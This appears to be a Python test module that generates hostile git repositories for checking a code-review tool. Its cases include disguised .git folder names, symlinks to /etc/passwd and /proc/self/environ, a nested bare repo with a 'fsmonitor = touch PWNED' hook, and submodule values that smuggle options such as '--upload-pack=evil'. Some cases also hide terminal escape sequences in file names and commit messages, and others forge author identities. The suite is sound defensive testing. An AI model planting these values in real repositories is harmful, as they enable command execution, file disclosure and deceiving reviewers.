"""Further cases, thought of from a second side: names that only other file systems hide, attributes that few know,
content that looks like a diff, text in old encodings, histories with several bases."""

from collections.abc import Iterator

from tests.hostile.cases import BAD, BASE, MARK, Case, _case, _commit, _history, _without
from tests.hostile.git_parts import IDENTITY, TRAILER, Maker, Tree


def names_elsewhere() -> Iterator[Case]:
    """Names that Windows or macOS take for others."""
    folders = {
        "hfs-dotgit": ".g\u200cit".encode(), "hfs-dotgit-2": ".gi\u200dt".encode(), "hfs-bom": "\ufeff.git".encode(),
        "ntfs-stream": b".git::$INDEX_ALLOCATION", "ntfs-dot": b".git.", "ntfs-space": b".git ", "ntfs-dots": b".git. . ",
        "short": b"GIT~1", "turkish": ".g\u0131t".encode(), "full-width": "．git".encode(), "back-slash": b".git\\hooks",
    }  # fmt: skip
    for name, folder in folders.items():
        yield _case(f"other-{name}", {folder: {b"post-checkout": ("100755", b"evil()\n")}}, "evil()", "post-checkout")
    files = {
        "aux": b"aux.c", "com": b"COM1.txt", "nul": b"nul", "lpt": b"LPT9", "stream": b"app.py:evil", "drive": b"C:evil",
        "unc": b"\\\\server\\share", "dots": b"...", "dash-rf": b"-rf", "double-dash": b"--", "star": b"*", "home": b"~root",
        "env": b"%PATH%", "gitmod": b"GITMOD~1", "modules-space": b".gitmodules ", "modules-stream": b".gitmodules:$DATA",
        "attributes-case": b".GitAttributes", "wildcard": b"?[!a]", "ring": b"a\x07b", "escape-c1": b"a\x9bb", "null-like": b"a\\0b",
        "quoted": b'"quoted\\n"', "at-brace": b"@{u}", "colon": b":", "caret": b"^{}", "range": b"a..b", "unicode-slash": "a\u2215b".encode(),
        "rtl-ext": "evil\u202etxt.exe".encode(), "long-3": b"x" * 255,
    }  # fmt: skip
    for name, raw in files.items():
        yield _case(f"other-{name}", {raw: b"evil()\n"}, "evil()")
    long: Tree = {b"x" * 250: b"evil()\n"}
    for _ in range(15):
        long = {b"y" * 250: long}
    yield _case("other-path-4096", long, "evil()")
    yield _case("other-dotgit-gitlink", {b"d": {b".git": ("160000", b"6" * 40)}}, "d/.git", "6" * 12)
    yield _case("other-dotgit-file", {b"d": {b".git": b"gitdir: ../../evil\n"}}, "gitdir: ../../evil")
    yield _case("other-modules-link", {b".gitmodules": ("120000", b"/tmp/x")}, ".gitmodules", "/tmp/x")
    yield _case("other-attributes-link", {b".gitattributes": ("120000", b"a"), b"a": b"* -diff\n"}, "* -diff")
    yield _case("other-link-round", {b"one": ("120000", b"two"), b"two": ("120000", b"one")}, "one", "two")
    yield _case("other-link-empty", {b"one": ("120000", b""), b"app.py": BAD}, "steal(amount)")
    yield _case("other-link-proc", {b"one": ("120000", b"/proc/self/environ")}, "/proc/self/environ")
    bare: Tree = {
        b"HEAD": b"ref: refs/heads/main\n",
        b"config": b"[core]\n\tbare = true\n\tfsmonitor = touch PWNED\n",
        b"objects": {b"keep": b""},
        b"refs": {b"keep": b""},
    }
    yield _case("other-bare-inside", {b"vendor": bare}, "fsmonitor = touch PWNED")
    yield _case(
        "other-mailmap", {b".mailmap": b"alice <alice@example.com> <mallory@example.com>\n"}, ".mailmap", "mallory"
    )


def attributes_few_know() -> Iterator[Case]:
    """Attributes, filters and modules that hide, convert or run."""
    for word in (
        "export-subst", "merge=union", "-merge", "diff=python", "eol=lf", "-crlf", "crlf=input", "encoding=UTF-16", "-delta", "conflict-marker-size=1",
        "filter=lfs diff=lfs merge=lfs -text", "working-tree-encoding=UTF-7", "!diff", "diff", "text=auto", "gitlab-generated", "linguist-vendored",
        "-diff -text -merge export-ignore",
    ):  # fmt: skip
        name = "".join(c if c.isalnum() else "-" for c in word)
        yield _case(f"few-{name}", {b".gitattributes": f"* {word}\n".encode(), b"app.py": BAD}, "steal(amount)", word)
    pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"a" * 64 + b"\nsize 12\n"
    yield _case("few-lfs-pointer", {b"app.py": pointer}, "git-lfs.github.com", "charge(amount)")
    yield _case("few-attributes-huge", {b".gitattributes": b"*.x y\n" * 50_000, b"app.py": BAD}, "steal(amount)")
    yield _case("few-attributes-nul", {b".gitattributes": b"*.py -diff\0\n", b"app.py": BAD}, "steal(amount)")
    modules = {
        "dash-url": b"url = -u./payload", "dash-path": b"path = -x", "dots": b"url = ../../../x", "cr": b'path = "sub\r"',
        "hooks": b"path = .git/hooks", "branch": b"branch = --upload-pack=evil", "file": b"url = file:///etc", "newline": b'url = "https://x\\n[core]"',
        "shallow": b"fetchRecurseSubmodules = on-demand", "credential": b"url = https://user:pw@evil.example/x%0ahost=a",
    }  # fmt: skip
    for name, line in modules.items():
        text = b'[submodule "../../evil"]\n\tpath = sub\n\t' + line + b"\n"
        yield _case(
            f"few-module-{name}", {b".gitmodules": text, b"sub": ("160000", b"7" * 40)}, "7" * 12, ".gitmodules"
        )


def like_a_diff() -> Iterator[Case]:
    """Content that a parser of patches or a reader could take for the frame around it."""
    texts = {
        "binary-files": b"Binary files a/app.py and b/app.py differ\n", "git-binary": b"GIT binary patch\nliteral 5\nMcmZQz\n\n",
        "subproject": b"Subproject commit " + b"8" * 40 + b"\n", "rename": b"similarity index 100%\nrename from a\nrename to b\n",
        "hunks": b"@@ -1,0 +1,0 @@\n@@ -0,0 +1 @@\n", "mode": b"old mode 100644\nnew mode 100755\n", "minus": b"---\n+++\n--- a\n+++ b\n",
        "escaped-newline": b"\\ No newline at end of file\n\\\n", "blank-context": b" \n\n \n", "conflict": b"<<<<<<< a\n=======\n>>>>>>> b\n",
        "signature": b"-- \n2.39.5\n", "from": b"From 0123456789 Mon Sep 17 00:00:00 2001\n", "commit": b"commit " + b"9" * 40 + b"\n", "combined": b"@@@ -1 -1 +1 @@@\n",
    }  # fmt: skip
    for name, text in texts.items():
        yield _case(f"like-{name}", {b"app.py": text + BAD, b"notes.txt": text}, "steal(amount)", "notes.txt")
    swap: Tree = {b"app.py": BASE[b"run.sh"], b"run.sh": BAD}
    yield _case("like-swap", swap, "steal(amount)", "echo start")
    yield _without("like-rename-to-link", b"app.py", {b"lib.py": ("120000", b"/etc/passwd")}, "/etc/passwd", "app.py")
    yield _without("like-rename-and-mode", b"run.sh", {b"go.sh": ("100755", b"#!/bin/sh\nevil\n")}, "evil", "100755")
    yield _case("like-folder-of-file", {b"app.py": {b"app.py": BAD}}, "steal(amount)", "app.py/app.py")
    yield _case("like-only-modes", {b"app.py": ("100755", BASE[b"app.py"])}, "100755")
    middle = {b"f%04d" % n: b"%d\n" % n for n in range(3000)} | {b"f1500": b"evil()\n"}
    yield _case("like-hay", {b"hay": middle}, "evil()")


def acting() -> Iterator[Case]:
    """Sequences of other terminals, and of old encodings."""
    payloads = {
        "iterm": b"\x1b]1337;File=inline=1:" + MARK + b"\x07", "notify": b"\x1b]9;" + MARK + b"\x07", "urxvt": b"\x1b]777;notify;" + MARK + b"\x07",
        "reset": b"\x1bc" + MARK, "charset": b"\x1b%G" + MARK, "sixel": b"\x1bPq#0" + MARK + b"\x1b\\", "region": b"\x1b[2;3r" + MARK, "report": b"\x1b[21t" + MARK,
        "sync": b"\x1b[?2026h" + MARK, "tmux": b"\x1bPtmux;\x1b\x1b]0;" + MARK + b"\x07\x1b\\", "screen": b"\x1bk" + MARK + b"\x1b\\", "answer": b"\x05" + MARK,
        "c1-raw": b"\x9b31337m" + MARK, "c1-raw-osc": b"\x9d0;" + MARK + b"\x9c", "pm": b"\x1b^" + MARK + b"\x1b\\", "sos": b"\x1bX" + MARK + b"\x1b\\",
        "title-st": b"\x1b]2;" + MARK + b"\x9c", "link-file": b"\x1b]8;;file:///" + MARK + b"\x07x\x1b]8;;\x07", "overlong-esc": b"\xc0\x9b[31337m" + MARK,
        "eot": b"\x04\x03\x1a" + MARK, "combining": "e\u0301".encode() * 300 + MARK, "tabs": b"\t" * 300 + MARK, "rtl": "\u05d0\u0628".encode() * 50 + MARK,
    }  # fmt: skip
    for name, payload in payloads.items():
        path = b"p-" + payload.replace(b"/", b"_")[:200] + b".py"
        title = payload.replace(b"\n", b" ") + b"\n\n" + TRAILER.encode() + b"\n"
        files: Tree = {b"t.py": b"# " + payload + b"\nevil()\n", path: b"evil2()\n"}
        yield _case(f"act-{name}", files, "evil()", "evil2()", "PWNED", message=title)
    who = b"M\x1b]8;;http://PWNED\x07\xe2\x80\xae <m\x1b[31337m@x.org> 1760000000 +0000"
    yield _case("act-people", {b"app.py": BAD}, "steal(amount)", head=b"author " + who + b"\ncommitter " + who)
    old = {
        "shift-jis": "能\\表".encode("shift_jis"), "iso-2022-jp": "日本".encode("iso2022_jp") + b"\x1b[31337mPWNED", "utf-7": b"+ABsAWw-31337mPWNED",
        "gb18030": "漢".encode("gb18030"), "hz-gb-2312": b"~{<:Ky~}\x1b]0;PWNED\x07", "euc-kr": "한".encode("euc_kr"), "cp037": b"\x1b[31337m", "punycode": b"xn--\x1b",
        "utf-16": "\x1b]0;PWNED\x07".encode("utf-16"), "utf-32-le": "\x9b31337m".encode("utf-32-le").replace(b"\0", b"\1"), "rot13": b"\x1b]0;CJARQ\x07", "mbcs": b"\x1b[31337mPWNED",
        "unicode_escape": b"\\x1b]0;PWNED\\x07", "idna": b"xn--a", "undefined": b"x", "base64": b"GzBd", "charmap": b"\x80", "oem": b"\x1b[31337mPWNED",
    }  # fmt: skip
    for name, raw in old.items():
        head = f"author {IDENTITY}\ncommitter {IDENTITY}\nencoding {name}".encode()
        yield _case(
            f"act-encoding-{name}",
            {b"app.py": BAD},
            "steal(amount)",
            head=head,
            message=raw + b"\n\n" + TRAILER.encode() + b"\n",
        )


def odd_times_and_people() -> Iterator[Case]:
    """Dates beyond any calendar, time zones that are none, people without a name, and who they pretend to be."""
    people = {
        "time-18-digits": "M <m@x.org> 999999999999999999 +0000", "time-year-10000": "M <m@x.org> 253402300800 +0000", "time-63": "M <m@x.org> 9223372036854775808 +0000",
        "time-before": "M <m@x.org> -62135596801 +0000", "time-far-before": "M <m@x.org> -99999999999999999 +0000", "time-31": "M <m@x.org> 2147483648 +0000",
        "zone-99": "M <m@x.org> 1760000000 +9999", "zone-long": "M <m@x.org> 1760000000 +99999999", "zone-none": "M <m@x.org> 1760000000", "zone-word": "M <m@x.org> 1760000000 UTC",
        "zone-60": "M <m@x.org> 1760000000 -0060", "time-float": "M <m@x.org> 1.5e9 +0000", "time-none": "M <m@x.org>", "no-mail": "M <> 1760000000 +0000", "no-name": "<m@x.org> 1760000000 +0000",
        "as-alice": "alice <alice@example.com> 1760000000 +0000", "as-alice-case": "Alice <ALICE@Example.COM> 1760000000 +0000", "as-alice-space": "alice < alice@example.com > 1760000000 +0000",
        "as-alice-wide": "ａlice <\u0430lice@example.com> 1760000000 +0000", "two-mails": "M <m@x.org> <alice@example.com> 1760000000 +0000", "nul-name": "M\x01 <m\x02@x.org> 1760000000 +0000",
        "newline-like": "M\u2028X: y <m@x.org> 1760000000 +0000", "long-name": "N" * 70_000 + " <m@x.org> 1760000000 +0000",
    }  # fmt: skip
    for name, who in people.items():
        head = f"author {who}\ncommitter {who}".encode()
        yield _case(f"odd-{name}", {b"app.py": BAD}, "steal(amount)", head=head)
    titles = {
        "wide": b"T" * 50_000, "lines": b"T\n" + b"\n" * 20_000 + b"x", "separator": b"T\n---\ndiff --git a/x b/x\n", "cr": b"Good\rPWNED bad", "rtl": "\u202eTitle".encode(),
        "hash": b"# Title", "scissors": b"T\n# ------------------------ >8 ------------------------\nrest", "fixup": b"fixup! Begin", "blank": b"\n\n\n\nTitle", "spaces": b"   ", "dots": b"...",
    }  # fmt: skip
    for name, text in titles.items():
        yield _case(
            f"odd-title-{name}", {b"app.py": BAD}, "steal(amount)", message=text + b"\n\n" + TRAILER.encode() + b"\n"
        )


def odd_histories() -> Iterator[Case]:
    """Several merge bases, empty commits, a change that is hidden in the middle."""

    def merged_main_backwards(maker: Maker, main: str) -> str:
        """The target's side is the second parent, and the tree that of neither."""
        return _commit(maker, {b"e.py": b"evil()\n"}, _commit(maker, {b"l.py": b"l()\n"}, main), main)

    def empty_on_top(maker: Maker, main: str) -> str:
        head = _commit(maker, {b"app.py": BAD}, main)
        for number in range(30):
            head = _commit(maker, {b"app.py": BAD}, head, message=b"Nothing %d\n" % number)
        return _commit(maker, {b"app.py": BAD}, head)

    def same_parent_twice(maker: Maker, main: str) -> str:
        return _commit(maker, {b"app.py": BAD}, main, main)

    def two_orphans(maker: Maker, _main: str) -> str:
        left, right = (maker.commit(maker.tree({b"o%d" % n: b"o\n"}), (), b"O %d\n" % n) for n in range(2))
        return maker.commit(
            maker.tree({b"o0": b"o\n", b"o1": b"o\n", b"app.py": BAD}), (left, right), b"Both\n\n" + TRAILER.encode()
        )

    def diamonds(maker: Maker, main: str) -> str:
        head = main
        for number in range(60):
            sides = [_commit(maker, {b"d%d" % number: b"%d" % side}, head) for side in range(2)]
            head = _commit(maker, {b"d%d" % number: b"both"}, *sides)
        return _commit(maker, {b"app.py": BAD}, head)

    def criss_cross(maker: Maker, main: str) -> str:
        """The target would need to hold both sides for two bases; here both merges stay on the branch."""
        left, right = (_commit(maker, {b"s%d" % n: b"s\n"}, main) for n in range(2))
        one, two = (_commit(maker, {b"s0": b"s\n", b"s1": b"s\n"}, *pair) for pair in ((left, right), (right, left)))
        return _commit(maker, {b"s0": b"s\n", b"s1": b"s\n", b"app.py": BAD}, one, two)

    yield _history("shape-backwards", merged_main_backwards, "evil()")
    yield _history("shape-empty-on-top", empty_on_top, "steal(amount)")
    yield _history("shape-parent-twice", same_parent_twice, "steal(amount)")
    yield _history("shape-two-orphans", two_orphans, "steal(amount)")
    yield _history("shape-diamonds", diamonds, "steal(amount)")
    yield _history("shape-criss-cross", criss_cross, "steal(amount)")
    names = {
        "origin": b"origin/main", "tags": b"tags/main", "remotes": b"remotes/origin/main", "notes": b"notes/reviewconsole/alice", "osc8": b"\xc2\x9d8;;PWNED\xc2\x9c",
        "pull": b"pull/1/head", "stash": b"stash", "replace": b"replace/x", "short-hex": b"deadbee", "nbsp": "main\u00a0".encode(), "look-alike": "m\u0430in".encode(), "upper": b"MAIN",
        "long-folders": b"/".join([b"d" * 200] * 10), "lock-like": b"main.lockx", "brace": b"{a,b}", "plus": b"+main", "comma": b"a,b", "equals": b"--x=y", "under": b"_", "zero": b"0",
    }  # fmt: skip
    for name, raw in names.items():
        ref = b"refs/heads/" + raw
        yield _case(f"shape-ref-{name}", {b"app.py": BAD, b"r.txt": name.encode()}, "steal(amount)", ref=ref)


OTHERS: tuple[Case, ...] = tuple(
    case
    for group in (names_elsewhere, attributes_few_know, like_a_diff, acting, odd_times_and_people, odd_histories)
    for case in group()
)
